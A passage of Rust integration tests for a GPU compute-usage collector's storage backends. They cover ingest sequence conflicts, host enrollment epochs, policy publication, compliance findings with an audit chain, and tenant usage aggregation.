//! The storage traits' contract, on each backend (SQLite file, PostgreSQL database): what
//! ingest, the `hosts` commands, the fleet view, policy publication and the poller rely on,
//! independent of HTTP.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

#[macro_use]
mod common;

use std::sync::Arc;

use common::*;
use kycd_collector::fleet::{FindingKind, FindingQuery, FindingState, NewFinding, TenantIdentity};
use kycd_collector::ingest::Admission;
use kycd_collector::policy::PublishedPolicy;
use kycd_collector::statements::POLL_HISTORY_PER_HOST;
use kycd_collector::store::REJECTIONS_PER_HOST;
use kycd_collector::{
    Limits, PollOutcome, PollRecord, Rejection, ReportStore, Storage, StoreError, ValidRecord,
};
use kycd_protocol::{HostStatementClaims, UsageRecord};
use serde_json::json;

backend_tests!(
    overlap_with_a_stored_merged_record_conflicts,
    a_conflict_names_the_stored_ranges_it_overlaps,
    enrollment_is_explicit_and_never_replaces_a_key,
    a_new_key_starts_a_new_epoch_and_old_records_stay,
    rejections_are_recorded_counted_and_bounded_per_host,
    acks_advance_over_out_of_order_and_merged_ranges,
    concurrent_writers_on_two_stores_store_each_seq_once,
    racing_conflicting_writers_never_store_overlapping_ranges,
    policies_are_published_newer_only,
    concurrent_publishers_of_one_version_one_wins,
    findings_are_raised_once_resolved_and_listed_by_page,
    racing_raisers_raise_a_finding_once,
    racing_filers_file_once_and_the_audit_chain_holds,
    tenant_identities_keep_the_newest,
    usage_aggregates_and_evidence,
    totals_saturate_and_exports_never_print_null_or_inf,
    csv_exports_neutralise_formula_cells_json_keeps_them,
    statements_status_history_and_removal,
    poll_history_is_bounded_per_host,
);

fn valid(records: Vec<UsageRecord>) -> Vec<ValidRecord> {
    let batch = batch("h", records);
    // Received long after every window of these tests, from a host enrolled at time 0.
    let admission = Admission { received_at: 2_000_000_000, enrolled_at: 0 };
    kycd_collector::ingest::validate_batch(batch, &Limits::default(), admission).unwrap()
}

fn merged(seq: u64, last: u64) -> UsageRecord {
    UsageRecord { last_seq: Some(last), ..record(seq) }
}

async fn overlap_with_a_stored_merged_record_conflicts(db: TestDb) {
    let store = db.open();
    off_runtime(|| {
        assert_eq!(store.insert_batch("h", 1, &valid(vec![merged(2, 4)]), 0).unwrap(), 0);
        for overlapping in [record(3), record(4), merged(1, 2), merged(2, 3)] {
            assert!(matches!(
                store.insert_batch("h", 1, &valid(vec![overlapping]), 0),
                Err(StoreError::SeqConflict { .. })
            ));
        }
        assert_eq!(
            store.insert_batch("h", 1, &valid(vec![merged(2, 4)]), 0).unwrap(),
            0,
            "identical re-send"
        );
        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(1), record(5)]), 0).unwrap(), 5);
        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(1, 1), (2, 4), (5, 5)]);
        // A conflict anywhere in a batch stores nothing of it.
        let mut changed = record(5);
        changed.window.gpus = 1;
        assert!(matches!(
            store.insert_batch("h", 1, &valid(vec![changed, record(6)]), 0),
            Err(StoreError::SeqConflict { first: 5, last: 5, ref stored }) if stored == &[(5, 5)]
        ));
        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(1, 1), (2, 4), (5, 5)]);
        assert_eq!(store.acked_seq("h", 1).unwrap(), 5);
    });
}

/// A conflict names the stored range(s) it collides with, not a seq of the incoming record
/// that may never have been stored.
async fn a_conflict_names_the_stored_ranges_it_overlaps(db: TestDb) {
    let store = db.open();
    off_runtime(|| {
        store.insert_batch("h", 1, &valid(vec![merged(2, 4), record(6)]), 0).unwrap();
        let conflict = |records| match store.insert_batch("h", 1, &valid(records), 0) {
            Err(e @ StoreError::SeqConflict { .. }) => e,
            other => panic!("{other:?}"),
        };
        // Partly overlapping: seq 1 was never stored; the stored merged record 2..=4 was.
        let e = conflict(vec![merged(1, 2)]);
        assert!(matches!(&e, StoreError::SeqConflict { first: 1, last: 2, stored } if stored == &[(2, 4)]));
        let text = e.to_string();
        assert!(text.contains("seq 1..=2 conflicts with stored seq 2..=4"), "{text}");
        // Inside a stored merged range.
        let e = conflict(vec![record(3)]);
        assert!(matches!(&e, StoreError::SeqConflict { first: 3, last: 3, stored } if stored == &[(2, 4)]));
        assert!(e.to_string().contains("seq 3 conflicts with stored seq 2..=4"), "{e}");
        // A merged range over several stored records names them all.
        let e = conflict(vec![merged(3, 7)]);
        assert!(
            matches!(&e, StoreError::SeqConflict { first: 3, last: 7, stored } if stored == &[(2, 4), (6, 6)]),
            "{e:?}"
        );
        assert!(e.to_string().contains("stored seq 2..=4, 6 "), "{e}");
        // Same seq, other content.
        let mut changed = record(6);
        changed.window.gpus = 1;
        let e = conflict(vec![changed]);
        assert!(matches!(&e, StoreError::SeqConflict { first: 6, last: 6, stored } if stored == &[(6, 6)]));
        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(2, 4), (6, 6)], "nothing of them stored");
    });
}

async fn enrollment_is_explicit_and_never_replaces_a_key(db: TestDb) {
    let store = db.open();
    let (a, b) = (host_key("host-a"), host_key("host-b"));
    off_runtime(|| {
        assert!(store.host_key("host-a").unwrap().is_none());
        store.enroll_host("host-a", &a.public_key(), 100).unwrap();
        store.enroll_host("host-b", &b.public_key(), 200).unwrap();
        let other = host_key("host-a");
        assert!(matches!(
            store.enroll_host("host-a", &other.public_key(), 300),
            Err(StoreError::AlreadyEnrolled(h)) if h == "host-a"
        ));
        assert_eq!(store.host_key("host-a").unwrap().unwrap().to_jwk(), a.public_key().to_jwk());
        store.insert_batch("host-b", 1, &valid(vec![record(1), record(2)]), 0).unwrap();
        let hosts = store.list_hosts().unwrap();
        let listed: Vec<(&str, i64, u64)> =
            hosts.iter().map(|h| (h.host_id.as_str(), h.enrolled_at, h.acked_seq)).collect();
        assert_eq!(listed, [("host-a", 100, 0), ("host-b", 200, 2)]);
        assert!(store.remove_host("host-b").unwrap());
        assert!(!store.remove_host("host-b").unwrap());
        assert_eq!(store.stored_ranges("host-b", 1).unwrap().len(), 2, "records outlive the enrollment");
        assert_eq!(store.list_hosts().unwrap().len(), 1);
    });
}

/// Re-imaging a host: `hosts remove`, then `hosts add` with the new key. The new agent numbers
/// from 1 again; its records go to a new epoch beside the old ones, which stay; acks and
/// idempotency are per epoch; the aggregation counts both.
async fn a_new_key_starts_a_new_epoch_and_old_records_stay(db: TestDb) {
    let store = db.storage();
    let (key1, key2, key3) = (host_key("h"), host_key("h"), host_key("h"));
    off_runtime(|| {
        assert_eq!(store.enroll_host("h", &key1.public_key(), 100).unwrap(), 1);
        let e = store.enrollment("h").unwrap().unwrap();
        assert_eq!((e.epoch, e.enrolled_at, e.public_key.to_jwk()), (1, 100, key1.public_key().to_jwk()));
        assert_eq!(store.insert_batch("h", 1, &valid((1..=3).map(record).collect()), 0).unwrap(), 3);

        assert!(store.remove_host("h").unwrap());
        assert!(store.enrollment("h").unwrap().is_none());
        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(1, 1), (2, 2), (3, 3)], "remove keeps records");
        assert_eq!(store.enroll_host("h", &key2.public_key(), 200).unwrap(), 2);
        assert!(matches!(
            store.enroll_host("h", &key3.public_key(), 250),
            Err(StoreError::AlreadyEnrolled(_))
        ));
        let e = store.enrollment("h").unwrap().unwrap();
        assert_eq!((e.epoch, e.enrolled_at, e.public_key.to_jwk()), (2, 200, key2.public_key().to_jwk()));
        // Seq 1 again, other content: a new record of epoch 2, not a conflict with epoch 1.
        let mut fresh: Vec<UsageRecord> = (1..=2).map(record).collect();
        for r in &mut fresh {
            r.window.gpus = 4;
        }
        assert_eq!(store.acked_seq("h", 2).unwrap(), 0);
        assert_eq!(store.insert_batch("h", 2, &valid(fresh.clone()), 0).unwrap(), 2);
        assert_eq!(store.insert_batch("h", 2, &valid(fresh.clone()), 0).unwrap(), 2, "idempotent");
        assert_eq!(store.stored_ranges("h", 2).unwrap(), [(1, 1), (2, 2)]);
        assert_eq!(store.acked_seq("h", 1).unwrap(), 3, "the old epoch's ack stays");
        assert!(matches!(
            store.insert_batch("h", 2, &valid(vec![record(2)]), 0),
            Err(StoreError::SeqConflict { first: 2, .. })
        ));
        let listed = store.list_hosts().unwrap();
        assert_eq!(
            listed.iter().map(|h| (h.host_id.as_str(), h.epoch, h.acked_seq)).collect::<Vec<_>>(),
            [("h", 2, 2)]
        );
        // Every epoch's windows count: 3 + 2.
        let usage = store.tenant_usage(None, None).unwrap();
        assert_eq!(usage.iter().map(|u| u.windows).sum::<u64>(), 5);
        assert_eq!(store.tenant_hosts("tenant-a").unwrap(), ["h"]);
        let evidence = store.usage_evidence("tenant-a", 10).unwrap();
        let mut seen: Vec<(u64, u64)> = evidence.iter().map(|e| (e.epoch, e.seq)).collect();
        seen.sort_unstable();
        assert_eq!(seen, [(1, 1), (1, 2), (1, 3), (2, 1), (2, 2)]);

        // Re-adding a key the host id had continues its epoch (the same agent is still
        // numbering; its resends must stay no-ops), from when that epoch began.
        assert!(store.remove_host("h").unwrap());
        assert_eq!(store.enroll_host("h", &key2.public_key(), 300).unwrap(), 2);
        assert_eq!(store.enrollment("h").unwrap().unwrap().enrolled_at, 200);
        assert_eq!(store.insert_batch("h", 2, &valid(fresh), 0).unwrap(), 2, "still a resend");
        assert!(store.remove_host("h").unwrap());
        assert_eq!(store.enroll_host("h", &key3.public_key(), 400).unwrap(), 3);
        assert!(store.remove_host("h").unwrap());
        assert_eq!(store.enroll_host("h", &key1.public_key(), 500).unwrap(), 1);
        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(4)]), 0).unwrap(), 4);
        // Another host id's epochs are its own.
        assert_eq!(store.enroll_host("other", &host_key("other").public_key(), 600).unwrap(), 1);
    });
}

async fn rejections_are_recorded_counted_and_bounded_per_host(db: TestDb) {
    let store = db.storage();
    let rejection = |host: &str, at: i64, seqs: Option<(u64, u64)>| Rejection {
        host_id: host.into(),
        epoch: 2,
        kind: "SeqConflict".into(),
        detail: format!("detail {at} {}", "x".repeat(2000)),
        seqs,
        rejected_at: at,
    };
    off_runtime(|| {
        assert!(store.rejection_counts(0).unwrap().is_empty());
        store.record_rejection(&rejection("a", 100, Some((3, 7)))).unwrap();
        store.record_rejection(&rejection("a", 200, None)).unwrap();
        store.record_rejection(&rejection("b", 150, Some((1, 1)))).unwrap();
        let counts = store.rejection_counts(0).unwrap();
        assert_eq!(
            counts.iter().map(|c| (c.host_id.as_str(), c.count, c.last_at)).collect::<Vec<_>>(),
            [("a", 2, 200), ("b", 1, 150)]
        );
        let recent = store.rejection_counts(160).unwrap();
        assert_eq!(recent.iter().map(|c| (c.host_id.as_str(), c.count)).collect::<Vec<_>>(), [("a", 1)]);
        let listed = store.rejections("a", 10).unwrap();
        assert_eq!(listed.len(), 2);
        assert_eq!((listed[0].rejected_at, listed[0].seqs), (200, None), "newest first");
        assert_eq!((listed[1].rejected_at, listed[1].seqs, listed[1].epoch), (100, Some((3, 7)), 2));
        assert_eq!(listed[1].kind, "SeqConflict");
        assert!(listed[1].detail.starts_with("detail 100 ") && listed[1].detail.len() <= 1024);
        assert_eq!(store.rejections("a", 1).unwrap().len(), 1);
        // A host that keeps sending bad batches keeps only its newest ones.
        for at in 0..i64::from(REJECTIONS_PER_HOST) + 5 {
            store.record_rejection(&rejection("a", 1000 + at, None)).unwrap();
        }
        let kept = store.rejections("a", u32::MAX).unwrap();
        assert_eq!(kept.len(), REJECTIONS_PER_HOST as usize);
        assert_eq!(kept[0].rejected_at, 1000 + i64::from(REJECTIONS_PER_HOST) + 4);
        assert_eq!(store.rejections("b", 10).unwrap().len(), 1, "other hosts keep theirs");
    });
}

async fn acks_advance_over_out_of_order_and_merged_ranges(db: TestDb) {
    let store = db.open();
    off_runtime(|| {
        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(8), record(9)]), 0).unwrap(), 0);
        assert_eq!(store.insert_batch("h", 1, &valid(vec![merged(4, 7)]), 0).unwrap(), 0);
        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(2), record(3)]), 0).unwrap(), 0);
        assert_eq!(store.acked_seq("other", 1).unwrap(), 0);
        // Filling the one gap walks over everything stored out of order.
        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(1)]), 0).unwrap(), 9);
        assert_eq!(store.acked_seq("h", 1).unwrap(), 9);
        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(9), record(10)]), 0).unwrap(), 10);
        assert_eq!(store.insert_batch("h", 1, &valid(vec![]), 0).unwrap(), 10);
    });
}

/// Two store instances (two pools, as two collector processes would have) and several
/// threads each, all storing overlapping batches of one host at once.
async fn concurrent_writers_on_two_stores_store_each_seq_once(db: TestDb) {
    const N: u64 = 200;
    let stores: [Arc<dyn ReportStore>; 2] = [db.open(), db.open()];
    // Batches of 10 starting every 5: each seq is in two batches; sent in a scrambled order.
    let mut batches: Vec<Vec<ValidRecord>> =
        (0..N / 5).map(|i| valid(((i * 5 + 1)..=(i * 5 + 10).min(N)).map(record).collect())).collect();
    let len = batches.len();
    for i in 0..len {
        batches.swap(i, (i * 7 + 3) % len);
    }
    let writing = std::sync::atomic::AtomicBool::new(true);
    let acks: Vec<u64> = off_runtime(|| {
        std::thread::scope(|s| {
            // The stored acked seq never goes back (no lost update between writers that
            // advanced it from different snapshots).
            let watcher = s.spawn(|| {
                let mut seen = 0;
                while writing.load(std::sync::atomic::Ordering::Relaxed) {
                    let acked = stores[0].acked_seq("h", 1).unwrap();
                    assert!(acked >= seen, "the acked seq went back from {seen} to {acked}");
                    seen = acked;
                }
            });
            let handles: Vec<_> = (0..6)
                .map(|t| {
                    let store = Arc::clone(&stores[t % 2]);
                    let batches = &batches;
                    s.spawn(move || {
                        let mut acks = Vec::new();
                        for b in batches.iter().skip(t).step_by(2).chain(batches.iter().rev().skip(t % 3)) {
                            loop {
                                match store.insert_batch("h", 1, b, 0) {
                                    Ok(acked) => {
                                        // Stored when answered: an ack reaching the batch covers it.
                                        let (first, last) = (b[0].record.seq, b[b.len() - 1].last_seq);
                                        assert!(
                                            acked + 1 < first || acked >= last,
                                            "{first}..={last}: {acked}"
                                        );
                                        break acks.push(acked);
                                    }
                                    Err(e) if e.is_transient() => std::thread::yield_now(),
                                    Err(e) => panic!("{e:?}"),
                                }
                            }
                        }
                        acks
                    })
                })
                .collect();
            let acks = handles.into_iter().flat_map(|h| h.join().unwrap()).collect();
            writing.store(false, std::sync::atomic::Ordering::Relaxed);
            watcher.join().unwrap();
            acks
        })
    });
    assert!(acks.iter().all(|a| *a <= N), "{acks:?}");
    let stored = off_runtime(|| stores[0].stored_ranges("h", 1).unwrap());
    assert_eq!(stored, (1..=N).map(|s| (s, s)).collect::<Vec<_>>());
    assert_eq!(off_runtime(|| stores[1].acked_seq("h", 1).unwrap()), N);
}

/// A merged record and a single record inside its range, stored at the same moment through
/// two stores: exactly one wins, the other is a conflict, and the stored ranges never overlap
/// (their seqs differ, so only the per-host serialisation can see the overlap).
async fn racing_conflicting_writers_never_store_overlapping_ranges(db: TestDb) {
    let stores: [Arc<dyn ReportStore>; 2] = [db.open(), db.open()];
    let contenders = [valid(vec![merged(2, 6)]), valid(vec![record(4)])];
    off_runtime(|| {
        for round in 0..40 {
            let host = format!("h{round}");
            let barrier = std::sync::Barrier::new(2);
            let results: Vec<Result<u64, StoreError>> = std::thread::scope(|s| {
                let handles: Vec<_> = (0..2)
                    .map(|i| {
                        let (store, batch, host, barrier) = (&stores[i], &contenders[i], &host, &barrier);
                        s.spawn(move || {
                            barrier.wait();
                            loop {
                                match store.insert_batch(host, 1, batch, 0) {
                                    Err(e) if e.is_transient() => std::thread::yield_now(),
                                    other => break other,
                                }
                            }
                        })
                    })
                    .collect();
                handles.into_iter().map(|h| h.join().unwrap()).collect()
            });
            let won = results.iter().filter(|r| r.is_ok()).count();
            let lost = results.iter().filter(|r| matches!(r, Err(StoreError::SeqConflict { .. }))).count();
            assert_eq!((won, lost), (1, 1), "round {round}: {results:?}");
            let ranges = stores[0].stored_ranges(&host, 1).unwrap();
            assert!(ranges == [(2, 6)] || ranges == [(4, 4)], "round {round}: {ranges:?}");
        }
    });
}

fn policy(version: u64) -> PublishedPolicy {
    let claims = serde_json::from_value(json!({
        "iss": "authority", "iat": 1_800_000_000, "exp": 1_900_000_000, "version": version,
        "measures": [], "unverified": {"action": "deny"},
        "thresholds": {"training_ops": 1e21, "bio_training_ops": 1e20, "cluster_flops": 1e17,
                       "early_warning_fraction": 0.5}
    }))
    .unwrap();
    PublishedPolicy { version, token: format!("token-{version}"), published_at: 1_800_000_000, claims }
}

async fn policies_are_published_newer_only(db: TestDb) {
    let store = db.storage();
    off_runtime(|| {
        assert!(store.current_policy().unwrap().is_none());
        store.publish_policy(&policy(2)).unwrap();
        for stale in [1, 2] {
            assert!(matches!(
                store.publish_policy(&policy(stale)),
                Err(StoreError::PolicyNotNewer { offered, current: 2 }) if offered == stale
            ));
        }
        store.publish_policy(&policy(5)).unwrap();
        let current = store.current_policy().unwrap().unwrap();
        assert_eq!((current.version, current.token.as_str()), (5, "token-5"));
        assert_eq!(current.claims.version, 5);
        assert_eq!(current.claims, policy(5).claims);
    });
}

/// Two stores (two collector processes) publish the same version at the same moment, many
/// times: exactly one wins each round, the other is told it is not newer.
async fn concurrent_publishers_of_one_version_one_wins(db: TestDb) {
    let stores: [Arc<dyn Storage>; 2] = [db.storage(), db.storage()];
    off_runtime(|| {
        for version in 1..=30u64 {
            let barrier = std::sync::Barrier::new(2);
            let results: Vec<Result<(), StoreError>> = std::thread::scope(|s| {
                let handles: Vec<_> = stores
                    .iter()
                    .map(|store| {
                        let barrier = &barrier;
                        s.spawn(move || {
                            barrier.wait();
                            store.publish_policy(&policy(version))
                        })
                    })
                    .collect();
                handles.into_iter().map(|h| h.join().unwrap()).collect()
            });
            let won = results.iter().filter(|r| r.is_ok()).count();
            let refused =
                results.iter().filter(|r| matches!(r, Err(StoreError::PolicyNotNewer { .. }))).count();
            assert_eq!((won, refused), (1, 1), "version {version}: {results:?}");
            assert_eq!(stores[1].current_policy().unwrap().unwrap().version, version);
        }
    });
}

fn finding(kind: FindingKind, subject: &str, tenant: Option<&str>, host: Option<&str>) -> NewFinding {
    NewFinding {
        kind,
        subject: subject.into(),
        tenant: tenant.map(Into::into),
        host_id: host.map(Into::into),
        foreign_person: tenant.map(|_| true),
        summary: format!("{} {subject}", kind.as_str()),
        evidence: json!({"subject": subject, "ops": 1.5e21, "hosts": ["h1", "h2"]}),
        due_at: None,
    }
}

async fn findings_are_raised_once_resolved_and_listed_by_page(db: TestDb) {
    let store = db.storage();
    off_runtime(|| {
        let early = finding(FindingKind::EarlyWarning, "t1", Some("t1"), None);
        let first = store.raise_finding(&early, 100).unwrap().unwrap();
        assert_eq!(store.raise_finding(&early, 110).unwrap(), None, "open: raised once");
        let crossed = finding(FindingKind::TrainingThresholdCrossed, "t1", Some("t1"), None);
        let second = store.raise_finding(&crossed, 120).unwrap().unwrap();
        let dark = finding(FindingKind::HostDark, "h9", None, Some("h9"));
        let third = store.raise_finding(&dark, 130).unwrap().unwrap();
        assert!(first < second && second < third);

        assert!(store.resolve_finding(third, 200).unwrap());
        assert!(!store.resolve_finding(third, 210).unwrap(), "already resolved");
        assert!(!store.resolve_finding(9999, 210).unwrap());
        // Resolved: the same condition may be raised again, as a new finding.
        let again = store.raise_finding(&dark, 300).unwrap().unwrap();
        assert!(again > third);

        let all = |q: FindingQuery| store.list_findings(&FindingQuery { limit: 100, ..q }).unwrap();
        let every = all(FindingQuery::default());
        assert_eq!(every.iter().map(|f| f.id).collect::<Vec<_>>(), [first, second, third, again]);
        assert_eq!(every[0].finding, early);
        assert_eq!(
            (every[0].state, every[0].raised_at, every[0].resolved_at),
            (FindingState::Open, 100, None)
        );
        assert_eq!((every[2].state, every[2].resolved_at), (FindingState::Resolved, Some(200)));
        assert_eq!(every[2].finding.foreign_person, None);
        let ids = |fs: Vec<kycd_collector::fleet::Finding>| fs.iter().map(|f| f.id).collect::<Vec<_>>();
        assert_eq!(
            ids(all(FindingQuery { state: Some(FindingState::Open), ..Default::default() })),
            [first, second, again]
        );
        assert_eq!(
            ids(all(FindingQuery { state: Some(FindingState::Resolved), ..Default::default() })),
            [third]
        );
        assert_eq!(
            ids(all(FindingQuery { kind: Some(FindingKind::HostDark), ..Default::default() })),
            [third, again]
        );
        assert_eq!(
            ids(all(FindingQuery { tenant: Some("t1".into()), ..Default::default() })),
            [first, second]
        );
        assert_eq!(
            ids(all(FindingQuery { host_id: Some("h9".into()), ..Default::default() })),
            [third, again]
        );
        assert!(all(FindingQuery { tenant: Some("nobody".into()), ..Default::default() }).is_empty());
        // Pages of two, followed by the cursor.
        let page = |after_id| {
            store.list_findings(&FindingQuery { after_id, limit: 2, ..Default::default() }).unwrap()
        };
        let p1 = ids(page(0));
        assert_eq!(p1, [first, second]);
        let p2 = ids(page(p1[1]));
        assert_eq!(p2, [third, again]);
        assert!(page(p2[1]).is_empty());
    });
}

/// Threads of two stores act on the same findings at the same moment: of four filings of
/// one finding exactly one succeeds (the others see it filed: `InvalidTransition`), a
/// dismissal racing them loses too, and the audit log holds one record per success, in one
/// unbroken chain.
async fn racing_filers_file_once_and_the_audit_chain_holds(db: TestDb) {
    use kycd_collector::fleet::lifecycle::verify_audit_log;
    use kycd_collector::fleet::FindingAction;
    let stores: [Arc<dyn Storage>; 2] = [db.storage(), db.storage()];
    off_runtime(|| {
        for round in 0..10 {
            let subject = format!("t{round}");
            let f = finding(FindingKind::TrainingThresholdCrossed, &subject, Some(&subject), None);
            let id = stores[0].raise_finding(&f, 100).unwrap().unwrap();
            if round % 2 == 0 {
                let acked =
                    stores[round % 2].act_on_finding(id, &FindingAction::Acknowledge, "op-ack", 150).unwrap();
                assert_eq!(
                    (acked.state, acked.acknowledged.as_ref().map(|a| (a.by.as_str(), a.at))),
                    (FindingState::Acknowledged, Some(("op-ack", 150)))
                );
            }
            let barrier = std::sync::Barrier::new(5);
            let results: Vec<Result<FindingState, String>> = std::thread::scope(|s| {
                let handles: Vec<_> = (0..5)
                    .map(|t| {
                        let (store, barrier) = (&stores[t % 2], &barrier);
                        s.spawn(move || {
                            let action = if t == 4 {
                                FindingAction::Dismiss { reason: "not a training run".into() }
                            } else {
                                FindingAction::File { reference: format!("BIS-{round}-{t}") }
                            };
                            barrier.wait();
                            store
                                .act_on_finding(id, &action, &format!("op{t}"), 200)
                                .map(|f| f.state)
                                .map_err(|e| {
                                    assert!(matches!(e, StoreError::InvalidTransition { .. }), "{e}");
                                    e.to_string()
                                })
                        })
                    })
                    .collect();
                handles.into_iter().map(|h| h.join().unwrap()).collect()
            });
            assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 1, "round {round}: {results:?}");
        }
        // One filing or dismissal per round, and the five acknowledgements.
        let rows = stores[1].audit_records(0, 1000).unwrap();
        assert_eq!(rows.len(), 15);
        assert_eq!(verify_audit_log(rows).unwrap().records, 15);
        assert!(matches!(
            stores[0].act_on_finding(9999, &FindingAction::Acknowledge, "op", 300),
            Err(StoreError::FindingNotFound(9999))
        ));
        assert!(matches!(
            stores[0].act_on_finding(1, &FindingAction::File { reference: "x".into() }, " ", 300),
            Err(StoreError::InvalidAction(_))
        ));
        assert_eq!(stores[0].audit_records(0, 1000).unwrap().len(), 15, "refusals leave no record");
    });
}

/// Threads of two stores raise the same findings at the same moment: each is raised once.
async fn racing_raisers_raise_a_finding_once(db: TestDb) {
    let stores: [Arc<dyn Storage>; 2] = [db.storage(), db.storage()];
    off_runtime(|| {
        for round in 0..20 {
            let subject = format!("t{round}");
            let f = finding(FindingKind::EarlyWarning, &subject, Some(&subject), None);
            let barrier = std::sync::Barrier::new(4);
            let raised: Vec<Option<i64>> = std::thread::scope(|s| {
                let handles: Vec<_> = (0..4)
                    .map(|t| {
                        let (store, f, barrier) = (&stores[t % 2], &f, &barrier);
                        s.spawn(move || {
                            barrier.wait();
                            store.raise_finding(f, 100).unwrap()
                        })
                    })
                    .collect();
                handles.into_iter().map(|h| h.join().unwrap()).collect()
            });
            assert_eq!(raised.iter().filter(|r| r.is_some()).count(), 1, "round {round}: {raised:?}");
        }
        let open = stores[0]
            .list_findings(&FindingQuery {
                state: Some(FindingState::Open),
                limit: 100,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(open.len(), 20);
    });
}

fn identity(tenant: &str, legal_name: &str, owners: &[&str], seen_at: i64) -> TenantIdentity {
    TenantIdentity {
        tenant: tenant.into(),
        legal_name: legal_name.into(),
        countries: serde_json::from_value(json!(["SG"])).unwrap(),
        beneficial_owner_countries: serde_json::from_value(json!(owners)).unwrap(),
        foreign_person: true,
        seen_at,
        detail: None,
    }
}

async fn tenant_identities_keep_the_newest(db: TestDb) {
    let store = db.storage();
    off_runtime(|| {
        assert!(store.tenant_identities().unwrap().is_empty());
        let b = identity("t-b", "B Ltd", &["CN"], 100);
        let a = identity("t-a", "A GmbH", &[], 100);
        store.upsert_tenant_identities(&[b.clone(), a.clone()]).unwrap();
        // An older statement does not replace a newer one; a newer (or as new) one does.
        store.upsert_tenant_identities(&[identity("t-b", "Old name", &[], 50)]).unwrap();
        let renamed = identity("t-a", "A AG", &["DE", "CN"], 200);
        store.upsert_tenant_identities(std::slice::from_ref(&renamed)).unwrap();
        assert_eq!(store.tenant_identities().unwrap(), [renamed, b]);
        store.upsert_tenant_identities(&[]).unwrap();
    });
}

fn tenant_window(
    tenant: &str,
    start: i64,
    len: i64,
    ops: f64,
    flops: f64,
    gpus: u32,
) -> kycd_protocol::UsageWindow {
    kycd_protocol::UsageWindow {
        tenant: Some(tenant.into()),
        start,
        end: start + len,
        gpus,
        max_concurrent_gpus: gpus,
        estimated_ops: ops,
        ops_lower: None,
        ops_upper: None,
        shared_gpu_seconds: 0.0,
        guest_gap_gpu_seconds: 0.0,
        peak_flops: flops,
        gpu_seconds: f64::from(gpus) * len as f64,
        ..window(start)
    }
}

/// The aggregation's numbers (see `kycd_collector::fleet`) and the evidence queries, the
/// same on both backends.
async fn usage_aggregates_and_evidence(db: TestDb) {
    let store = db.storage();
    let t0 = 1_800_000_000 / 60 * 60;
    let batch_of = |windows: Vec<kycd_protocol::UsageWindow>| {
        let records =
            windows.into_iter().zip(1..).map(|(window, seq)| UsageRecord { seq, last_seq: None, window });
        valid(records.collect())
    };
    off_runtime(|| {
        // Host a: three 60 s windows of t; host b: six 10 s windows of t in minute 1 and one
        // of u; an untenanted window.
        let mut a: Vec<_> = (0..3).map(|m| tenant_window("t", t0 + 60 * m, 60, 4e17, 8e15, 8)).collect();
        a.push(kycd_protocol::UsageWindow { tenant: None, ..window(t0) });
        store.insert_batch("a", 1, &batch_of(a), 1000).unwrap();
        let mut b: Vec<_> = (0..6).map(|k| tenant_window("t", t0 + 60 + 10 * k, 10, 4e16, 4e15, 2)).collect();
        // u's window is a VM whose guest was silent for 30 of its 60 GPU-seconds.
        b.push(kycd_protocol::UsageWindow {
            workload: "libvirt_domain:vm-u".into(),
            method: kycd_protocol::EstimationMethod::GuestReported,
            guest_gap_gpu_seconds: 30.0,
            ..tenant_window("u", t0 + 600, 60, 5e16, 1e15, 1)
        });
        store.insert_batch("b", 1, &batch_of(b), 2000).unwrap();

        let usage = store.tenant_usage(None, None).unwrap();
        assert_eq!(usage.iter().map(|u| u.tenant.as_str()).collect::<Vec<_>>(), ["t", "u"]);
        let t = &usage[0];
        assert!((t.peak_flops / 12e15 - 1.0).abs() < 1e-9, "{t:?}");
        assert_eq!((t.peak_at, t.hosts, t.gpus, t.windows), (t0 + 60, 2, 10, 9));
        assert_eq!((t.first_seen, t.last_seen), (t0, t0 + 180));
        assert!((t.estimated_ops - 1.44e18).abs() < 1e6, "{t:?}");
        assert!((t.gpu_seconds - (3.0 * 480.0 + 6.0 * 20.0)).abs() < 1e-6, "{t:?}");
        assert!(t.foreign_person);
        assert_eq!(t.ops_by_method.keys().collect::<Vec<_>>(), ["gpm_tensor"]);
        assert_eq!(
            (t.guest_gap_gpu_seconds, t.guest_gap_hosts.len(), t.guest_gap_workloads.len()),
            (0.0, 0, 0)
        );
        // The guest gap and the method round-trip, with the host and the VM.
        let u = &usage[1];
        assert_eq!(
            (u.guest_gap_gpu_seconds, u.guest_gap_hosts.as_slice(), u.guest_gap_workloads.as_slice()),
            (30.0, ["b".to_owned()].as_slice(), ["b/libvirt_domain:vm-u".to_owned()].as_slice())
        );
        assert_eq!(u.ops_by_method.keys().collect::<Vec<_>>(), ["guest_reported"]);
        let u_evidence = store.usage_evidence("u", 1).unwrap();
        assert_eq!(
            (u_evidence[0].guest_gap_gpu_seconds, u_evidence[0].method.as_str()),
            (30.0, "guest_reported")
        );
        assert_eq!(store.tenant_usage(Some("u"), None).unwrap(), [usage[1].clone()]);
        assert_eq!(store.tenant_usage(Some("t"), None).unwrap(), [usage[0].clone()]);
        assert!(store.tenant_usage(Some("nobody"), None).unwrap().is_empty());
        // A period: only windows ending after `since`.
        let late = store.tenant_usage(None, Some(t0 + 120)).unwrap();
        assert_eq!(
            late.iter().map(|u| (u.tenant.as_str(), u.windows)).collect::<Vec<_>>(),
            [("t", 1), ("u", 1)]
        );

        let evidence = store.usage_evidence("t", 4).unwrap();
        assert_eq!(
            evidence.iter().map(|e| (e.host_id.as_str(), e.seq)).collect::<Vec<_>>(),
            [("a", 1), ("a", 2), ("a", 3), ("b", 1)]
        );
        assert_eq!((evidence[0].start, evidence[0].end, evidence[0].gpus), (t0, t0 + 60, 8));
        assert_eq!(evidence[0].method, "gpm_tensor");
        assert_eq!(store.tenant_hosts("t").unwrap(), ["a", "b"]);
        assert_eq!(store.tenant_hosts("u").unwrap(), ["b"]);
        let enrolled = host_key("quiet");
        store.enroll_host("quiet", &enrolled.public_key(), 0).unwrap();
        let last = store.last_report_at().unwrap();
